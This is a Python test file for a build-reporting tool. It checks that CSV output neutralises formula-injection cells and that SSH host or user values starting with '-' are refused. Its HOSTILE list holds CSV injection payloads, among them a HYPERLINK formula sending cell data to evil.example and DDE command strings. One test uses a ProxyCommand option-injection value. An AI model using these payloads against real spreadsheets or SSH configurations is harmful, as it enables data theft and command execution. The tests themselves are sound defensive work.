"""Text from a shared build folder (device names, variant errors, notes) never becomes a formula in
results.csv: a spreadsheet opening it runs nothing (OWASP CSV injection)."""
from __future__ import annotations

import csv
import io

import pytest

from edgeship.reports import Build, Report
from edgeship.reports.csvfile import render_csv
from tests.test_store import _latency, _results

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_faults_csv_cells_that_start_a_formula_are_written_inert() -> None:
    results = _results(latency=[_latency(device, 1.0) for device in HOSTILE])
    results.variants[1].error = HOSTILE[0]
    text = render_csv(Report.of([Build("host", results, "results.json")]))
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r", "\n"))]
    assert not [c for c in cells if c.startswith("-") and not _number(c)]
    assert {"'" + h.replace("\r", "\n") for h in HOSTILE} <= set(cells)  # a CR is written as a quoted LF
    negative = _results(latency=[_latency("host", 1.0)])
    negative.variants[0].latency[0].accuracy.top1_drop = -0.5  # a number stays a number
    rows = list(csv.DictReader(io.StringIO(render_csv(Report.of([Build("host", negative, "r.json")])), newline="")))
    assert rows[0]["top1_drop"] == "-0.5"


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("key", ["host", "user"])
def test_faults_an_ssh_host_or_user_that_ssh_would_read_as_an_option_is_refused(key, tmp_path, capsys) -> None:
    from edgeship.cli import main

    values = {"host": "board.local", "user": "pi", key: "-oProxyCommand=touch pwned"}
    path = tmp_path / "devices.toml"
    path.write_text(f'[devices.board]\ntransport = "ssh"\nhost = "{values["host"]}"\nuser = "{values["user"]}"\n')
    assert main(["devices", "--devices", str(path), "list"]) == 2
    err = capsys.readouterr().err
    assert str(path) in err and key in err and "begins with '-'" in err and "Traceback" not in err
    assert not (tmp_path / "pwned").exists()


def test_faults_ssh_gets_the_host_after_a_double_dash() -> None:
    from edgeship.devices.config import SshConfig

    device = SshConfig(transport="ssh", host="board.local", multiplex=False).device("board")
    args = device.ssh_args("true")
    assert args[-3:] == ["--", "board.local", "sh -c true"]
